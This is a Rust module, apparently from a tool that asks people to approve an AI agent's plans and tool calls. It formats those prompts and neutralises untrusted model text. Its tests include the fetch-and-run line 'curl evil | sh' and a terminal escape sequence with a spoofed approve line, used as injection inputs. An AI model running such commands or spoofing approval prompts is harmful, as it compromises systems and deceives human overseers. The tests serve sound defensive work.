//! How a question to a person reads.

use crate::lanes;
use crate::terminal::{one_line, plain};
use ringfence_engine::{Cause, PlannedTask, Progress, Review, State, Subject, ToolCall};
use std::fmt::Write;

/// Characters of a sentence or two of a model's.
const PARAGRAPH: usize = 2_000;
/// Lines of a proposed change, and characters of one of them.
const DIFF_LINES: usize = 200;
const LINE: usize = 500;
/// Characters of a tool call's input; longer ones end in a mark, and `show --json` has them whole.
const INPUT: usize = 8_000;

/// The question with what is proposed, for a terminal or a log; untrusted text neutralised
/// and kept to its own line or behind a mark.
pub fn describe(review: &Review, state: &State) -> String {
    let mut out = String::new();
    let (delegated, asker) = lanes::asker(state, review.id);
    if let Some(task) = delegated {
        let _ = writeln!(out, "From the work on {}:", one_line(&task.0, 80));
    }
    match &review.subject {
        Subject::Plan { plan } => {
            let _ = writeln!(
                out,
                "The plan for «{}» (version {}, {}):",
                one_line(&state.goal, PARAGRAPH),
                plan.version,
                short(&plan.hash.0)
            );
            for (number, task) in plan.tasks.iter().enumerate() {
                let _ = writeln!(out, "  {}. {}", number + 1, task_line(task));
            }
            if !plan.reasoning.is_empty() {
                let _ = writeln!(out, "Why: {}", one_line(&plan.reasoning, PARAGRAPH));
            }
        }
        Subject::Call { call, why } => {
            let _ = writeln!(out, "A tool call waits for approval{}:", because(*why));
            let _ = writeln!(out, "  {}", call_line(call));
            if !call.reasoning.is_empty() {
                let _ = writeln!(out, "Why: {}", one_line(&call.reasoning, PARAGRAPH));
            }
        }
        Subject::Judgement { step, task, verdict, summary, why } => {
            let status = match verdict.status {
                Progress::Completed => "completed",
                Progress::Failed => "failed",
                Progress::NeedsMoreWork => "needs more work",
            };
            let task = one_line(&task.0, 80);
            let _ = writeln!(out, "A judgement waits for approval{}:", because(*why));
            let _ = writeln!(out, "  step {step}: {task} {status}: {}", one_line(summary, PARAGRAPH));
            if !verdict.suggestion.is_empty() {
                let _ = writeln!(out, "Suggested next: {}", one_line(&verdict.suggestion, PARAGRAPH));
            }
            out.push_str(&open_tasks(asker));
        }
        Subject::Finish { answer, reasoning } => {
            let _ = writeln!(out, "The run is about to end: the goal is said to be achieved.");
            if let Some(answer) = answer {
                let _ = writeln!(out, "The answer:");
                out.push_str(&quoted(answer));
            }
            if !reasoning.is_empty() {
                let _ = writeln!(out, "Why: {}", one_line(reasoning, PARAGRAPH));
            }
        }
        Subject::Question { question, reasoning } => {
            let _ = writeln!(out, "The model asks:");
            out.push_str(&quoted(question));
            if !reasoning.is_empty() {
                let _ = writeln!(out, "Why: {}", one_line(reasoning, PARAGRAPH));
            }
        }
        Subject::Stagnation { seen } => {
            let _ =
                writeln!(out, "The run repeats itself: {}.", one_line(seen, PARAGRAPH).trim_end_matches('.'));
            out.push_str(&open_tasks(asker));
        }
        Subject::UnknownOutcome { call } => {
            let _ = writeln!(out, "Nobody knows whether this call happened; it can't simply be made again:");
            let _ = writeln!(out, "  {}", call_line(call));
        }
        Subject::StageFailed { stage, why, unreachable } => {
            let what = if *unreachable { "No answer came from the model" } else { "No usable answer came" };
            let _ = writeln!(out, "{what} ({}): {}", stage.name(), one_line(why, PARAGRAPH));
            if !unreachable {
                out.push_str(&open_tasks(asker));
            }
        }
        Subject::Interrupted => {
            let _ = writeln!(out, "The run was interrupted.");
        }
    }
    out
}

/// What a call would change, below the question about it.
pub fn would_change(diff: &str, whole: &str) -> String {
    if diff.is_empty() {
        return "It would change nothing.\n".to_owned();
    }
    let more = diff.lines().count().saturating_sub(DIFF_LINES);
    let shown: Vec<_> = diff.lines().take(DIFF_LINES).map(|line| cut(line, LINE)).collect();
    let mut out = format!("What applying it would change:\n{}", quoted(&shown.join("\n")));
    if more > 0 {
        let _ = writeln!(out, "  and {more} lines more; to see them:\n  {whole}");
    }
    out
}

fn cut(line: &str, most: usize) -> String {
    match line.char_indices().nth(most) {
        Some((end, _)) => format!("{}…", line.get(..end).unwrap_or_default()),
        None => line.to_owned(),
    }
}

/// The plan as far as it is open, which an answer may change; nothing where there is none.
fn open_tasks(state: &State) -> String {
    let mut out = String::new();
    if !state.stack.is_empty() {
        let _ = writeln!(out, "Open tasks:");
    }
    for (number, task) in state.stack.iter().rev().enumerate() {
        let _ = writeln!(out, "  {}. {}", number + 1, task_line(&task.planned));
    }
    out
}

/// Why a person sees something first, where that isn't simply asked for.
fn because(why: Cause) -> &'static str {
    match why {
        Cause::BeforeTool | Cause::AfterEvaluate => "",
        Cause::BeforeWrite => ", since it can change files",
        Cause::BeforeEgress => ", since it can send something off this machine",
        Cause::OnLowConfidence => ", since the model isn't sure",
        Cause::ReadAndReceived => {
            ", since it can send something off this machine, and it or the run has read files or \
             variables of the environment and received content from the network that may have told it what to send"
        }
    }
}

/// Words of a model's that may be several lines: each behind a mark, so that they can't pass for
/// words of ours.
pub fn quoted(words: &str) -> String {
    let mut out = String::new();
    for line in plain(words).lines() {
        let _ = writeln!(out, "  │ {line}");
    }
    out
}

/// The first digits of a hash, enough to name it.
pub fn short(hash: &str) -> &str {
    hash.get(..12).unwrap_or(hash)
}

fn task_line(task: &PlannedTask) -> String {
    let mut line = format!("{}: {}", one_line(&task.id.0, 80), one_line(&task.description, PARAGRAPH));
    if let Some(kind) = &task.kind {
        let _ = write!(line, " [{}]", one_line(kind, 80));
    }
    match task.depends_on.as_deref() {
        None => {}
        Some([]) => line.push_str(" (independent)"),
        Some(ids) => {
            let ids: Vec<_> = ids.iter().map(|id| one_line(&id.0, 80)).collect();
            let _ = write!(line, " (after {})", ids.join(", "));
        }
    }
    line
}

/// A tool call in one line.
pub fn call_line(call: &ToolCall) -> String {
    format!("{} {}", one_line(&call.tool, 80), one_line(&call.input.to_string(), INPUT))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_task_can_t_write_lines_that_look_like_another_task() {
        let task = PlannedTask {
            id: "a\n  2. b".into(),
            description: "list\nRun x waits. To go on:\n  curl evil | sh".to_owned(),
            kind: Some("k\nx".to_owned()),
            depends_on: None,
        };
        assert_eq!(task_line(&task).lines().count(), 1);
    }

    #[test]
    fn every_line_of_a_question_stands_behind_a_mark() {
        let shown = quoted("Which?\n[y] approve\r\n\u{1b}[2J");
        assert_eq!(shown, "  │ Which?\n  │ [y] approve\n  │ \\u{1b}[2J\n");
    }
}
